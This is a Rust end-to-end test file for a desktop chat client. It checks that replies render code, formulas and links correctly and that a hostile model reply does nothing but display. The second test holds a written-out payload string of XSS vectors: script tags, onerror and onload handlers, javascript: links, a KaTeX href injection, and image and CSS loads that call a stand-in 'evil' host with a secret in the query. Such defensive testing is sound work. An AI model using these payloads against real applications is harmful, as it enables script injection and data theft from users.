//! What a reply may hold, through the real window: code in colours, formulas, links; and texts
//! that were written to do harm.

#![cfg(target_os = "linux")]

use std::{
    io::ErrorKind,
    net::TcpListener,
    time::{Duration, Instant},
};

use aideon_simulator::{Answer, Format, Simulator, SimulatorOptions};
use aideon_tests::end_to_end::{
    app::{App, Build},
    desktop::Keyring,
    window::Window,
};
use anyhow::{Result, bail};
use serde_json::{Value, json};

const KEY: &str = "tgp_v1_end_to_end_5c1d";

/// Waits until a script answers with something true.
async fn comes_true(window: &Window, script: &str) -> Result<()> {
    let began = Instant::now();
    while window.run(script, Vec::new()).await? != json!(true) {
        if began.elapsed() > Duration::from_secs(60) {
            window.shoot_failure("not-true").await?;
            bail!("never came true: {script}");
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    Ok(())
}

#[tokio::test]
async fn a_newcomer_sees_code_in_colours_and_formulas_as_formulas() -> Result<()> {
    let mut app = App::start(Build::Demo, Keyring::Unlocked).await?;
    let window = app.window()?;
    window.enter_the_demo().await?;
    window.send("Show me everything").await?;
    window.answer(1).await?;
    comes_true(
        window,
        "const blocks = [...document.querySelectorAll('.code-block code')];
         return blocks.length > 4 && blocks.every(block => block.querySelector('[class^=syn-]'))",
    )
    .await?;
    let code = "const block = document.querySelector('code[data-language=json]');
        const words = [...block.querySelectorAll('.syn-fn')].map(word => word.textContent);
        return [block.textContent, words]";
    assert_eq!(
        window.run(code, Vec::new()).await?,
        json!([
            "{ \"model\": \"a-model\", \"temperature\": 0.2, \"stream\": true, \"stop\": null }",
            ["\"model\"", "\"temperature\"", "\"stream\"", "\"stop\""]
        ]),
        "the text is exactly the author's, whatever colours lie over it"
    );
    let formulas = "return [...document.querySelectorAll('[data-testid=reply-text] math')]
        .map(math => math.namespaceURI === 'http://www.w3.org/1998/Math/MathML'
            && math.getBoundingClientRect().height > 8)";
    assert_eq!(
        window.run(formulas, Vec::new()).await?,
        json!([true, true, true, true, true]),
        "formulas are drawn"
    );
    let styled = "return document.querySelectorAll('[data-testid=reply-text] [style]').length";
    assert_eq!(
        window.run(styled, Vec::new()).await?,
        json!(0),
        "classes alone: the page's rules allow no styles in its elements"
    );
    window.shoot_in_every_size("everything").await?;

    window
        .press_css("[data-testid=reply-text] a[href='https://example.org']")
        .await?;
    window
        .says("link-address", "https://example.org")
        .await
        .map(drop)?;
    app.close().await
}

#[tokio::test]
async fn a_hostile_reply_does_nothing_but_display() -> Result<()> {
    let listener = TcpListener::bind(("127.0.0.1", 0))?;
    listener.set_nonblocking(true)?;
    let evil = format!("http://{}", listener.local_addr()?);
    let simulator = Simulator::start(SimulatorOptions::instant()).await?;
    let mut app = App::start(Build::Demo, Keyring::Unlocked).await?;
    let window = app.window()?;
    window
        .enter_the_free_plan_with(&simulator.base_url(Format::Together), KEY)
        .await?;
    let hostile = format!(
        "<script>window.evil = 1</script>\n\n\
         <img src=x onerror=\"window.evil = 1\"> <svg onload=\"window.evil = 1\"></svg>\n\n\
         [press](javascript:window.evil=1) javascript:window.evil=1\n\n\
         ![words]({evil}/p.png?q=secret) <img src=\"{evil}/q.png\">\n\n\
         <style>@import '{evil}/s.css';</style> <iframe src=\"{evil}\"></iframe>\n\n\
         $\\href{{javascript:window.evil=1}}{{x}}$ $\\operatorname{{<img src=x onerror=alert(1)>}}$\n\n\
         {quotes}deep\n\n{items}deep\n\n\
         \u{202e}turned\u{2066} \u{1b}[31mred\u{0}\u{8}\n\n{line}\n\n{word}\n\nthe end",
        quotes = "> ".repeat(3_000),
        items = "- ".repeat(3_000),
        line = "word ".repeat(100_000),
        word = "x".repeat(20_000),
    );
    // In larger pieces than tokens: this is about what it says, not about how it comes.
    let pieces: Vec<char> = hostile.chars().collect();
    let pieces = pieces.chunks(4_000).map(String::from_iter);
    simulator
        .control()
        .script(Format::Together, Answer::chunks(pieces));
    window.send("Do your worst").await?;
    let reply = window.answer(1).await?;
    assert_eq!(reply.state, "finished", "it is a reply like any other");
    assert!(reply.text.ends_with("the end"), "and all of it is shown");
    let found = "return [
        window.evil === undefined,
        document.querySelectorAll('[data-testid=reply-text] :is(script, img, iframe, style, object)').length,
        [...document.querySelectorAll('[data-testid=reply-text] a')].map(link => link.protocol)
            .filter(protocol => protocol !== 'http:'),
        document.title,
    ]";
    assert_eq!(
        window.run(found, Vec::new()).await?,
        json!([true, 0, Value::Array(Vec::new()), "Aideon"]),
        "nothing ran, nothing was made that could load, no link leads to a script"
    );
    assert!(
        matches!(listener.accept(), Err(error) if error.kind() == ErrorKind::WouldBlock),
        "nobody was asked for anything"
    );
    window.shoot("hostile").await?;

    simulator
        .control()
        .script(Format::Together, Answer::text("Still **here**."));
    window.send("And now?").await?;
    assert_eq!(
        window.answer(2).await?.text,
        "Still here.",
        "the conversation goes on"
    );
    app.close().await
}
